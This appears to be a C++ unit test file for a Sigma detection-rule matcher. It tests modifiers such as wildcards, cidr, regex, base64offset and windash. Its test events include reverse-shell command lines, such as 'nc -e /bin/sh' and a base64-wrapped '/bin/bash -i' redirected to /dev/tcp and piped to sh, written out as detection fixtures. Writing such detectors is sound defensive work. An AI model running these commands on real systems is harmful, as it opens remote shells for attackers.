// Value matching and every modifier: wildcards and escapes, null, case, lists, keywords,
// contains/startswith/endswith/all, re (+ i m s), cidr v4/v6, gt/gte/lt/lte, exists, fieldref,
// neq, windash, base64, base64offset, utf16 forms, unsupported modifiers and bad combinations.
#include <gtest/gtest.h>

#include <string>

#include "signatures/sigma/modifiers.h"
#include "signatures/sigma/sigma_string.h"
#include "signatures/sigma/value_matcher.h"
#include "tests/unit/sigma_test_util.h"

namespace soc::sigma {
namespace {

using testing::compile_reason;
using testing::detects;
using testing::make_event;

Event field(const std::string& name, FieldValue value) { return make_event({{name, value}}); }

// detection: `f<mods>: <value>` under selection, condition selection.
std::string sel(const std::string& key, const std::string& value) {
  return "    selection:\n        " + key + ": " + value + "\n    condition: selection\n";
}

bool text_matches(const std::string& pattern, std::string_view text, bool cased = false) {
  return ValueMatcher::pattern(SigmaString::parse(pattern), cased).matches_text(text);
}

TEST(SigmaValue, WildcardsAndEscapes) {
  EXPECT_TRUE(text_matches("abc", "ABC"));
  EXPECT_FALSE(text_matches("abc", "abcd"));
  EXPECT_TRUE(text_matches("a*c", "abbbc"));
  EXPECT_TRUE(text_matches("a*c", "ac"));
  EXPECT_FALSE(text_matches("a*c", "acb"));
  EXPECT_TRUE(text_matches("a?c", "abc"));
  EXPECT_FALSE(text_matches("a?c", "ac"));
  EXPECT_TRUE(text_matches("a?c",
                           "a\xC3\xA9"
                           "c"));  // ? is one character (UTF-8)
  EXPECT_TRUE(text_matches("*", ""));
  EXPECT_TRUE(text_matches("", ""));
  EXPECT_FALSE(text_matches("", "x"));
  EXPECT_TRUE(text_matches("*a*b*c*", "xxAyyBzzC"));
  EXPECT_FALSE(text_matches("*a*b*c*", "xxCyyBzzA"));
  EXPECT_TRUE(text_matches("*/bin/*sh", "/usr/bin/bash"));
  EXPECT_TRUE(text_matches("a*b?d*", "aXXbcdYY"));
  EXPECT_TRUE(text_matches("a*ab?c", "aaabxc"));  // backtracking after a partial match
  EXPECT_FALSE(text_matches("a*ab?c", "aaabc"));
  // Escapes: \* and \? are literal, \\ is one backslash, other backslashes stay.
  EXPECT_TRUE(text_matches("a\\*c", "a*c"));
  EXPECT_FALSE(text_matches("a\\*c", "abc"));
  EXPECT_TRUE(text_matches("a\\?c", "a?c"));
  EXPECT_FALSE(text_matches("a\\?c", "abc"));
  EXPECT_TRUE(text_matches("C:\\Windows\\*", "c:\\windows*"));  // \* is a literal star
  EXPECT_FALSE(text_matches("C:\\Windows\\*", "c:\\windows\\x.exe"));
  EXPECT_TRUE(text_matches("C:\\\\Windows", "C:\\Windows"));  // \\ -> \ .
  EXPECT_TRUE(text_matches("a\\\\*", "a\\anything"));         // \\* = backslash + wildcard
  EXPECT_TRUE(text_matches("a\\\\\\*", "a\\*"));              // \\\* = backslash + star
  EXPECT_FALSE(text_matches("a\\\\\\*", "a\\x"));
  EXPECT_TRUE(text_matches("\\\\\\\\", "\\\\"));  // four -> two
  EXPECT_EQ(SigmaString::parse("a\\*b*").to_string(), "a\\*b*");
}

TEST(SigmaValue, CaseInsensitiveUnlessCased) {
  EXPECT_TRUE(detects(sel("f", "'SshD'"), field("f", std::string("sshd"))));
  EXPECT_FALSE(detects(sel("f|cased", "'SshD'"), field("f", std::string("sshd"))));
  EXPECT_TRUE(detects(sel("f|cased", "'SshD'"), field("f", std::string("SshD"))));
  EXPECT_FALSE(detects(sel("f|contains|cased", "'Evil'"), field("f", std::string("xxevilxx"))));
  EXPECT_TRUE(detects(sel("f|contains|cased", "'Evil'"), field("f", std::string("xxEvilxx"))));
  EXPECT_TRUE(detects(sel("f|contains", "'Evil'"), field("f", std::string("xxEVILxx"))));
}

TEST(SigmaValue, PositionModifiers) {
  const Event e = field("cmd", std::string("/usr/bin/curl -o /tmp/x http://a"));
  EXPECT_TRUE(detects(sel("cmd|startswith", "'/usr/bin'"), e));
  EXPECT_FALSE(detects(sel("cmd|startswith", "'/bin'"), e));
  EXPECT_TRUE(detects(sel("cmd|endswith", "'//a'"), e));
  EXPECT_FALSE(detects(sel("cmd|endswith", "'curl'"), e));
  EXPECT_TRUE(detects(sel("cmd|contains", "'-o /tmp'"), e));
  EXPECT_TRUE(detects(sel("cmd|contains", "'curl*/tmp'"), e));  // wildcards inside contains
  EXPECT_FALSE(detects(sel("cmd", "'curl'"), e));               // plain = whole value
  EXPECT_TRUE(detects(sel("cmd", "'*curl*'"), e));
}

TEST(SigmaValue, ListsAreOrAndAllIsAnd) {
  const Event e = field("cmd", std::string("nc -e /bin/sh 10.0.0.1"));
  EXPECT_TRUE(detects(sel("cmd|contains", "['wget', '/bin/sh']"), e));
  EXPECT_FALSE(detects(sel("cmd|contains", "['wget', 'curl']"), e));
  EXPECT_TRUE(detects(sel("cmd|contains|all", "['nc ', ' -e ', '/bin/sh']"), e));
  EXPECT_FALSE(detects(sel("cmd|contains|all", "['nc ', ' -e ', 'bash']"), e));
  EXPECT_TRUE(detects(sel("cmd|all|contains", "['nc ', '/bin/sh']"), e));  // order irrelevant
}

TEST(SigmaValue, MapsAreAndListsOfMapsAreOr) {
  const Event e = make_event({{"a", std::string("1x")}, {"b", std::string("2y")}});
  EXPECT_TRUE(detects("    s:\n        a: '1x'\n        b: '2y'\n    condition: s\n", e));
  EXPECT_FALSE(detects("    s:\n        a: '1x'\n        b: 'no'\n    condition: s\n", e));
  EXPECT_TRUE(detects("    s:\n        - a: 'no'\n        - b: '2y'\n    condition: s\n", e));
  EXPECT_FALSE(detects("    s:\n        - a: 'no'\n        - b: 'no'\n    condition: s\n", e));
}

TEST(SigmaValue, NullAndEmpty) {
  const Event e = make_event({{"present", std::string("")}, {"list", StringList{}}});
  EXPECT_TRUE(detects(sel("absent", "null"), e));
  EXPECT_TRUE(detects(sel("absent", ""), e));  // nothing = null
  EXPECT_FALSE(detects(sel("present", "null"), e));
  EXPECT_TRUE(detects(sel("list", "null"), e));  // an empty list holds nothing
  EXPECT_TRUE(detects(sel("present", "''"), e));
  EXPECT_FALSE(detects(sel("absent", "''"), e));
  EXPECT_TRUE(detects("    s:\n        present: null\n    condition: not s\n", e));
  EXPECT_EQ(compile_reason(sel("f", "['a', null]")), "null cannot be part of a list of values");
  EXPECT_EQ(compile_reason(sel("f|contains", "null")), "null cannot take modifiers");
}

TEST(SigmaValue, NumbersAndTypedFields) {
  EXPECT_TRUE(detects(sel("port", "22"), field("port", std::int64_t{22})));
  EXPECT_TRUE(detects(sel("port", "'22'"), field("port", std::int64_t{22})));
  EXPECT_TRUE(detects(sel("port", "22"), field("port", std::string("22"))));
  EXPECT_FALSE(detects(sel("port", "22"), field("port", std::int64_t{220})));
  EXPECT_TRUE(detects(sel("port", "22.0"), field("port", std::int64_t{22})));
  EXPECT_TRUE(detects(sel("ratio", "0.5"), field("ratio", 0.5)));
  EXPECT_TRUE(detects(sel("port|startswith", "'2'"), field("port", std::int64_t{22})));
  EXPECT_TRUE(detects(sel("ok", "'true'"), field("ok", true)));
  EXPECT_TRUE(detects(sel("ok", "true"), field("ok", true)));
  EXPECT_FALSE(detects(sel("ok", "true"), field("ok", false)));
  EXPECT_TRUE(detects(sel("ip", "'10.0.0.1'"), field("ip", *IpAddress::parse("10.0.0.1"))));
  EXPECT_TRUE(detects(sel("ip", "'2001:db8:0::1'"), field("ip", *IpAddress::parse("2001:db8::1"))));
  EXPECT_TRUE(detects(sel("ip|startswith", "'10.0.'"), field("ip", *IpAddress::parse("10.0.3.4"))));
  EXPECT_TRUE(detects(sel("l", "'b'"), field("l", StringList{"a", "B", "c"})));
  EXPECT_FALSE(detects(sel("l", "'d'"), field("l", StringList{"a", "B", "c"})));
}

TEST(SigmaValue, NumericComparisons) {
  const Event e = field("n", std::int64_t{100});
  EXPECT_TRUE(detects(sel("n|gt", "99"), e));
  EXPECT_FALSE(detects(sel("n|gt", "100"), e));
  EXPECT_TRUE(detects(sel("n|gte", "100"), e));
  EXPECT_TRUE(detects(sel("n|lt", "100.5"), e));
  EXPECT_FALSE(detects(sel("n|lt", "100"), e));
  EXPECT_TRUE(detects(sel("n|lte", "100"), e));
  EXPECT_TRUE(detects(sel("n|gt", "-5"), e));
  EXPECT_TRUE(detects(sel("n|gt", "99"), field("n", std::string("150"))));  // numeric text
  EXPECT_FALSE(detects(sel("n|gt", "99"), field("n", std::string("abc"))));
  EXPECT_TRUE(detects(sel("n|lt", "1"), field("n", 0.25)));
  EXPECT_FALSE(detects(sel("n|gt", "1"), make_event({})));
  EXPECT_TRUE(detects(sel("n|gt", "9007199254740992"), field("n", std::int64_t{9007199254740993})));
  EXPECT_EQ(compile_reason(sel("n|gt", "'ten'")), "comparison value 'ten' is not a number");
  EXPECT_EQ(compile_reason(sel("n|contains|gt", "5")),
            "modifier gt must come before any modifier that changes the values");
}

TEST(SigmaValue, Cidr) {
  auto ip = [](const char* t) { return field("ip", *IpAddress::parse(t)); };
  EXPECT_TRUE(detects(sel("ip|cidr", "'10.0.0.0/8'"), ip("10.200.3.4")));
  EXPECT_FALSE(detects(sel("ip|cidr", "'10.0.0.0/8'"), ip("11.0.0.1")));
  EXPECT_TRUE(detects(sel("ip|cidr", "'172.16.0.0/12'"), ip("172.31.255.255")));
  EXPECT_FALSE(detects(sel("ip|cidr", "'172.16.0.0/12'"), ip("172.32.0.0")));
  EXPECT_TRUE(detects(sel("ip|cidr", "'0.0.0.0/0'"), ip("8.8.8.8")));
  EXPECT_TRUE(detects(sel("ip|cidr", "'192.168.1.7'"), ip("192.168.1.7")));  // bare = /32
  EXPECT_TRUE(detects(sel("ip|cidr", "'fe80::/10'"), ip("fe80::1")));
  EXPECT_TRUE(detects(sel("ip|cidr", "'fc00::/7'"), ip("fd12:3456::1")));
  EXPECT_FALSE(detects(sel("ip|cidr", "'fc00::/7'"), ip("fe00::1")));
  EXPECT_TRUE(detects(sel("ip|cidr", "'::1/128'"), ip("::1")));
  EXPECT_FALSE(detects(sel("ip|cidr", "'10.0.0.0/8'"), ip("::1")));             // family mismatch
  EXPECT_TRUE(detects(sel("ip|cidr", "'10.0.0.0/8'"), ip("::ffff:10.1.2.3")));  // v4-mapped
  EXPECT_TRUE(detects(sel("ip|cidr", "['1.0.0.0/8', '10.0.0.0/8']"), ip("10.0.0.1")));
  EXPECT_TRUE(detects(sel("ip|cidr", "'10.0.0.0/8'"), field("ip", std::string("10.9.9.9"))));
  EXPECT_FALSE(detects(sel("ip|cidr", "'10.0.0.0/8'"), field("ip", std::string("10.9.9.x"))));
  EXPECT_EQ(compile_reason(sel("ip|cidr", "'10.0.0.0/33'")), "bad cidr prefix '10.0.0.0/33'");
  EXPECT_EQ(compile_reason(sel("ip|cidr", "'10.0.0/8'")), "bad cidr '10.0.0/8'");
  EXPECT_EQ(compile_reason(sel("ip|cidr", "'::/129'")), "bad cidr prefix '::/129'");
}

TEST(SigmaValue, Regex) {
  const Event e = field("cmd", std::string("Powershell -enc AAAA\nsecond line"));
  EXPECT_TRUE(detects(sel("cmd|re", "'-enc [A-Z]+'"), e));
  EXPECT_FALSE(detects(sel("cmd|re", "'powershell'"), e));  // re is case-sensitive
  EXPECT_TRUE(detects(sel("cmd|re|i", "'powershell'"), e));
  EXPECT_FALSE(detects(sel("cmd|re", "'^second'"), e));
  EXPECT_TRUE(detects(sel("cmd|re|m", "'^second'"), e));
  EXPECT_FALSE(detects(sel("cmd|re", "'AAAA.second'"), e));
  EXPECT_TRUE(detects(sel("cmd|re|s", "'AAAA.second'"), e));
  EXPECT_TRUE(detects(sel("cmd|re|i|m|s", "'^SECOND LINE$'"), e));
  EXPECT_TRUE(detects(sel("cmd|re", "'a*\\*'"), field("cmd", std::string("aa*"))));  // no globbing
  EXPECT_TRUE(detects(sel("n|re", "'^2[0-9]$'"), field("n", std::int64_t{22})));
  EXPECT_NE(compile_reason(sel("cmd|re", "'(?<=x)y'")).find("not supported by RE2"),
            std::string::npos);
  EXPECT_NE(compile_reason(sel("cmd|re", "'(unclosed'")).find("not supported by RE2"),
            std::string::npos);
  EXPECT_EQ(compile_reason(sel("cmd|i", "'x'")), "modifier i needs a preceding re modifier");
  EXPECT_EQ(compile_reason(sel("cmd|contains|re", "'x'")),
            "modifier re must come before any modifier that changes the values");
}

TEST(SigmaValue, Exists) {
  const Event e = field("user", std::string(""));
  EXPECT_TRUE(detects(sel("user|exists", "true"), e));
  EXPECT_FALSE(detects(sel("user|exists", "false"), e));
  EXPECT_TRUE(detects(sel("other|exists", "false"), e));
  EXPECT_FALSE(detects(sel("other|exists", "true"), e));
  EXPECT_TRUE(detects(sel("user|exists", "'yes'"), e));
  EXPECT_EQ(compile_reason(sel("user|exists", "maybe")), "exists needs true or false, not 'maybe'");
  EXPECT_EQ(compile_reason(sel("user|exists", "[true, false]")), "exists takes exactly one value");
}

TEST(SigmaValue, FieldRef) {
  const Event e = make_event({{"user", std::string("Alice")},
                              {"target", std::string("alice")},
                              {"home", std::string("/home/alice/x")},
                              {"port", std::int64_t{22}},
                              {"port2", std::string("22")}});
  EXPECT_TRUE(detects(sel("user|fieldref", "target"), e));
  EXPECT_FALSE(detects(sel("user|fieldref|cased", "target"), e));
  EXPECT_FALSE(detects(sel("user|fieldref", "home"), e));
  EXPECT_TRUE(detects(sel("home|fieldref|contains", "target"), e));
  EXPECT_FALSE(detects(sel("home|fieldref|endswith", "target"), e));
  EXPECT_TRUE(
      detects(sel("home|fieldref|startswith", "prefix"),
              make_event({{"home", std::string("/home/x")}, {"prefix", std::string("/HOME")}})));
  EXPECT_TRUE(detects(sel("port|fieldref", "port2"), e));  // compared as text
  EXPECT_FALSE(detects(sel("user|fieldref", "missing"), e));
  EXPECT_TRUE(detects(sel("user|fieldref|neq", "home"), e));
  EXPECT_FALSE(detects(sel("user|fieldref|neq", "target"), e));
  EXPECT_EQ(compile_reason(sel("user|contains|fieldref", "target")),
            "modifier fieldref must come before any modifier that changes the values");
}

TEST(SigmaValue, Neq) {
  const Event e = field("user", std::string("root"));
  EXPECT_FALSE(detects(sel("user|neq", "'root'"), e));
  EXPECT_TRUE(detects(sel("user|neq", "'admin'"), e));
  EXPECT_FALSE(detects(sel("user|neq", "['admin', 'root']"), e));
  EXPECT_TRUE(detects(sel("user|neq", "'root'"), make_event({})));  // absent differs
}

TEST(SigmaValue, Windash) {
  const std::string rule = sel("cmd|windash|contains", "' -exec '");
  EXPECT_TRUE(detects(rule, field("cmd", std::string("find . -exec rm"))));
  EXPECT_TRUE(detects(rule, field("cmd", std::string("find . /exec rm"))));
  EXPECT_TRUE(detects(rule, field("cmd", std::string("find . \xE2\x80\x93"
                                                     "exec rm"))));
  EXPECT_TRUE(detects(rule, field("cmd", std::string("find . \xE2\x80\x94"
                                                     "exec rm"))));
  EXPECT_TRUE(detects(rule, field("cmd", std::string("find . \xE2\x80\x95"
                                                     "exec rm"))));
  EXPECT_FALSE(detects(rule, field("cmd", std::string("find . +exec rm"))));
  // Only a dash that starts a word is replaced: "a-b" stays.
  EXPECT_FALSE(detects(sel("cmd|windash", "'a-b'"), field("cmd", std::string("a/b"))));
  EXPECT_TRUE(detects(sel("cmd|windash", "'-a -b'"), field("cmd", std::string("/a \xE2\x80\x93"
                                                                              "b"))));
  ItemSpec spec = make_item_spec({DetectionValue{"-a -b", false, false, 0}});
  ASSERT_TRUE(apply_modifier("windash", spec));
  EXPECT_EQ(spec.groups[0].size(), 25u);
  // Expansions are bounded.
  std::string many;
  for (int i = 0; i < 8; ++i) many += " -x";
  EXPECT_EQ(compile_reason(sel("cmd|windash", "'" + many + "'")),
            "modifier windash expands to more than 4096 variants");
}

TEST(SigmaValue, Base64) {
  EXPECT_EQ(base64_encode(""), "");
  EXPECT_EQ(base64_encode("f"), "Zg==");
  EXPECT_EQ(base64_encode("fo"), "Zm8=");
  EXPECT_EQ(base64_encode("foo"), "Zm9v");
  EXPECT_EQ(base64_encode("foob"), "Zm9vYg==");
  EXPECT_TRUE(detects(sel("cmd|base64", "'/bin/sh'"), field("cmd", std::string("L2Jpbi9zaA=="))));
  EXPECT_TRUE(detects(sel("cmd|base64|contains", "'/bin/sh'"),
                      field("cmd", std::string("echo L2Jpbi9zaA== | base64 -d"))));
  EXPECT_EQ(compile_reason(sel("cmd|contains|base64", "'x'")),
            "modifier base64 cannot encode wildcards");
}

TEST(SigmaValue, Base64Offset) {
  // pySigma's reference output for "/bin/bash".
  EXPECT_EQ(base64_offset_variants("/bin/bash"),
            (std::vector<std::string>{"L2Jpbi9iYXNo", "9iaW4vYmFza", "vYmluL2Jhc2"}));
  // Whatever precedes it, the base64 of a text holding the value contains one variant.
  const std::string value = "/bin/bash -i";
  for (const std::string prefix : {"", "x", "xy", "echo ", "abcdefg"}) {
    const std::string encoded = base64_encode(prefix + value + " >& /dev/tcp/1.2.3.4/80");
    EXPECT_TRUE(detects(sel("cmd|base64offset|contains", "'" + value + "'"),
                        field("cmd", "echo " + encoded + " | base64 -d | sh")))
        << prefix;
  }
  EXPECT_FALSE(detects(sel("cmd|base64offset|contains", "'/bin/bash -i'"),
                       field("cmd", std::string("echo " + base64_encode("/bin/zsh -i")))));
}

TEST(SigmaValue, Utf16) {
  EXPECT_EQ(to_utf16("cmd", false), std::string("c\0m\0d\0", 6));
  EXPECT_EQ(to_utf16("cmd", true), std::string("\0c\0m\0d", 6));
  EXPECT_EQ(to_utf16("\xC3\xA9", false), std::string("\xE9\0", 2));
  EXPECT_EQ(to_utf16("\xF0\x9F\x98\x80", false), std::string("\x3D\xD8\x00\xDE", 4));
  const std::string wide_b64 = base64_encode(to_utf16("whoami", false));
  EXPECT_TRUE(detects(sel("cmd|wide|base64", "'whoami'"), field("cmd", wide_b64)));
  EXPECT_TRUE(detects(sel("cmd|utf16le|base64", "'whoami'"), field("cmd", wide_b64)));
  EXPECT_TRUE(
      detects(sel("cmd|utf16|base64", "'ab'"), field("cmd", base64_encode(std::string("\xFF\xFE"
                                                                                      "a\0b\0",
                                                                                      6)))));
  EXPECT_TRUE(detects(sel("cmd|utf16be|base64offset|contains", "'whoami'"),
                      field("cmd", "x" + base64_encode("  " + to_utf16("whoami", true)))));
}

TEST(SigmaValue, UnsupportedModifiersHaveReasons) {
  EXPECT_EQ(compile_reason(sel("f|expand", "'%servers%'")),
            "unsupported modifier expand (placeholders need value lists the agent lacks)");
  EXPECT_EQ(compile_reason(sel("f|hour", "3")),
            "unsupported modifier hour (time parts of date fields)");
  EXPECT_EQ(compile_reason(sel("f|frobnicate", "3")), "unsupported modifier frobnicate");
  EXPECT_EQ(compile_reason(sel("f|", "3")), "unsupported modifier (empty)");
  EXPECT_EQ(compile_reason(sel("f|re|cidr", "'x'")),
            "modifier cidr cannot follow a re/cidr/compare/exists/fieldref modifier");
  for (std::string_view m : supported_modifiers()) EXPECT_FALSE(m.empty());
}

TEST(SigmaValue, Keywords) {
  const Event e = make_event({}, "Oct 1 sshd[1]: Failed password for Invalid user root");
  EXPECT_TRUE(detects("    keywords:\n        - 'failed password'\n    condition: keywords\n", e));
  EXPECT_TRUE(
      detects("    keywords:\n        - 'nope'\n        - 'INVALID USER'\n"
              "    condition: keywords\n",
              e));
  EXPECT_FALSE(detects("    keywords:\n        - 'nope'\n    condition: keywords\n", e));
  EXPECT_TRUE(
      detects("    keywords:\n        '|all':\n            - 'sshd'\n"
              "            - 'root'\n    condition: keywords\n",
              e));
  EXPECT_FALSE(
      detects("    keywords:\n        '|all':\n            - 'sshd'\n"
              "            - 'admin'\n    condition: keywords\n",
              e));
  EXPECT_TRUE(detects("    keywords:\n        - 'Failed*root'\n    condition: keywords\n", e));
  EXPECT_TRUE(detects("    keywords: 'password for'\n    condition: keywords\n", e));
  EXPECT_TRUE(
      detects("    keywords:\n        '|re': 'sshd\\[\\d+\\]'\n    condition: keywords\n", e));
  EXPECT_TRUE(
      detects("    keywords:\n        '|startswith': 'oct 1'\n    condition: keywords\n", e));
  EXPECT_FALSE(
      detects("    keywords:\n        '|startswith': 'sshd'\n    condition: keywords\n", e));
  EXPECT_EQ(compile_reason("    keywords:\n        '|exists': true\n    condition: keywords\n"),
            "exists needs a field");
}

TEST(SigmaValue, HugeListsAreRefused) {
  std::string values = "[";
  for (std::size_t i = 0; i <= kMaxValuesPerItem; ++i)
    values += (i ? ",v" : "v") + std::to_string(i);
  values += "]";
  EXPECT_EQ(compile_reason(sel("f", values)), "more than 10000 values in one item");
}

}  // namespace
}  // namespace soc::sigma
